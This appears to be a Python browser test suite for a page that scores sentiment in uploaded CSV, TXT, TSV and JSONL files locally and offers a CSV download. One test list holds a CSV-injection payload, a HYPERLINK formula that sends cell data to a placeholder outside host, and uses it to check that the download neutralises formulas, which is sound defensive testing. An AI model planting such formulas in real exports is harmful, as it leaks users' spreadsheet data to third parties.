"""Private file scoring: a visitor's file is scored in the worker, shown, sorted, downloaded as
CSV, and never uploaded; bad files get a plain answer and the card stays usable."""

from __future__ import annotations

import csv
import io
import json

import pytest

from page_tools import settle
from staticml.train import data
from staticml.browser import open_page

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def tweets() -> list[str]:
    texts = data.load_default(keep_labels=["negative", "positive"]).texts
    return [t for t in texts if t.strip()][:3000]


@pytest.fixture
def page(browser, site_url):
    context, page, requests = open_page(browser, site_url)
    page.requests = requests
    yield page
    context.close()


def choose(page, name: str, content: bytes) -> None:
    page.set_input_files("#file-input", files=[{"name": name, "mimeType": "application/octet-stream", "buffer": content}])


def csv_bytes(rows: list[dict]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def score(page) -> str:
    page.click("#file-score")
    page.wait_for_selector("#file-results:not([hidden]), #file-error:not([hidden])", timeout=120_000)
    return page.inner_text("#file-status")


def ready_to_score(page) -> None:
    page.wait_for_function("() => !document.querySelector('#file-score').disabled || "
                           "!document.querySelector('#file-error').hidden", timeout=30_000)


def error(page) -> str:
    page.wait_for_selector("#file-error:not([hidden])", timeout=60_000)
    return page.inner_text("#file-error")


def network(requests: list[str]) -> list[str]:
    return [r for r in requests if r.startswith("http")]


def test_a_csv_column_is_scored_sorted_and_downloaded_without_uploading(page, tweets):
    before = len(page.requests)
    rows = [{"id": str(i), "tweet": text, "note": "x" * (i % 3)} for i, text in enumerate(tweets[:300])]
    choose(page, "tweets.csv", csv_bytes(rows))
    ready_to_score(page)
    assert page.eval_on_selector("#file-column", "el => el.value") == "tweet"
    assert "300 rows" in page.inner_text("#file-status")
    assert "Scored 300 rows" in score(page)
    scores = [float(s) for s in page.locator("#file-body tr td:nth-child(4)").all_inner_texts()]
    assert len(scores) == 300 and scores == sorted(scores, reverse=True)
    page.click("#file-sort")
    scores = [float(s) for s in page.locator("#file-body tr td:nth-child(4)").all_inner_texts()]
    assert scores == sorted(scores)
    with page.expect_download() as download:
        page.click("#file-download")
    table = list(csv.DictReader(open(download.value.path(), encoding="utf-8")))
    assert len(table) == 300 and table[0] == {**rows[0], **table[0]}  # the file's columns kept, as staticml predict keeps them
    assert list(table[0])[:3] == ["id", "tweet", "note"] and list(table[0])[3] == "label"
    expected = page.evaluate("(t) => window.staticml.predict(t)", [rows[0]["tweet"]])[0]
    assert table[0]["label"] == expected["label"]
    assert json.loads(table[0]["set"]) == expected["set"]  # issue 28: the prediction set, as `staticml predict` writes it
    assert network(page.requests[before:]) == []  # nothing uploaded, nothing fetched


FORMULA_LIKE = ["=1+1", "=HYPERLINK(\"https://elsewhere.example/?\"&A1, \"click\")", "+33 1 23 45 67 89",
                "-2 stars, never again", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
PLAIN = ["I love it", "a = b, or so", "say \"hi\"", "'quoted' already", " =1+1", "5 - 3 = 2", "line one\nline two"]


def test_the_download_neutralises_formulas_as_owasp_recommends(page):
    """CSV injection: a text a spreadsheet would run as a formula gets a leading ' in the download;
    every other text is written as it is (RFC 4180 quoting only)."""
    texts = FORMULA_LIKE + PLAIN
    choose(page, "texts.csv", csv_bytes([{"text": t} for t in texts]))
    ready_to_score(page)
    assert f"Scored {len(texts)} rows" in score(page)
    with page.expect_download() as download:
        page.click("#file-download")
    with open(download.value.path(), encoding="utf-8", newline="") as file:
        table = list(csv.DictReader(file))
    assert len(table) == len(texts)
    written = {text: table[i] for i, text in enumerate(texts)}  # in the file's order
    for text in texts:
        expected = "'" + text if text in FORMULA_LIKE else text
        assert written[text]["text"] == expected, (text, written[text]["text"])
        assert written[text]["label"] in ("negative", "positive")  # labels as they are (not formula-like)
        assert not written[text]["p_positive"].startswith("'")


@pytest.mark.parametrize("name, content, column", [
    ("texts.txt", b"I love it\n\nworst day ever\r\nfine, I guess\n", "text"),
    ("texts.tsv", b"id\tbody\n1\tI love it\n2\tworst day ever\n3\tfine, I guess\n", "body"),
    ("texts.jsonl", b'{"review": "I love it", "stars": 5}\n{"review": "worst day ever", "stars": 1}\n"fine, I guess"\n',
     "review"),
])
def test_txt_tsv_and_jsonl_files(page, name, content, column):
    choose(page, name, content)
    ready_to_score(page)
    assert page.eval_on_selector("#file-column", "el => el.value") == column
    assert "Scored" in score(page) and page.locator("#file-body tr").count() >= 2


def test_a_long_batch_can_be_cancelled(page, tweets):
    texts = (tweets * 7)[:20_000]
    choose(page, "many.txt", "\n".join(t.replace("\n", " ") for t in texts).encode())
    ready_to_score(page)
    page.click("#file-score")
    page.wait_for_function("() => document.querySelector('#file-progress').value > 0")
    page.click("#file-cancel")
    page.wait_for_selector("#file-results:not([hidden])", timeout=60_000)
    status = page.inner_text("#file-status")
    assert status.startswith("Cancelled")
    assert 0 < page.locator("#file-body tr").count() <= 500
    assert settle(page, "window.staticml.predict(['still usable'])") == "ok"


JUNK = bytes((i * 7919 + 13) % 256 for i in range(200_000))


@pytest.mark.parametrize("case, name, content, says", [
    ("empty", "empty.csv", b"", "has no rows to score"),
    ("header only", "header.csv", b"text,label\n", "has no rows to score"),
    ("binary junk", "junk.csv", JUNK, "not text"),
    ("not a text format", "sheet.xlsx", b"PK\x03\x04", "not a file type the page reads"),
    ("bad JSONL", "bad.jsonl", b'{"text": "ok"}\n{oops\n', "Line 2 of the JSONL file is not valid JSON"),
    ("column without text", "blank.csv", b"id,text\n1,\n2,  \n", 'Column "text" has no text'),
])
def test_a_bad_file_is_explained_and_the_card_stays_usable(page, case, name, content, says):
    choose(page, name, content)
    ready_to_score(page)
    if page.locator("#file-error").is_hidden():
        page.click("#file-score")
    assert says in error(page)
    choose(page, "good.txt", b"I love it\nworst day ever\n")  # stays usable
    ready_to_score(page)
    assert page.locator("#file-error").is_hidden()
    assert "Scored 2 rows" in score(page)


def test_a_csv_without_the_chosen_column_says_which_columns_it_has(page):
    message = settle(page, "window.staticml.scoreFile(new File(['id,review\\n1,great\\n'], 'x.csv'), 'text')")
    assert message == 'The file has no column "text" (its columns: id, review).'
    assert 'no column "text"' in error(page)


def test_a_50_mb_file_is_refused_before_it_is_read(page, tmp_path):
    big = tmp_path / "big.csv"
    with open(big, "wb") as out:
        out.write(b"text\n")
        out.truncate(50_000_000)
    choose_path = str(big)
    page.set_input_files("#file-input", choose_path)
    message = error(page)
    assert "50.0 MB" in message and "up to 20 MB" in message
    choose(page, "good.txt", b"fine\n")
    ready_to_score(page)
    assert "Scored 1 row" in score(page)
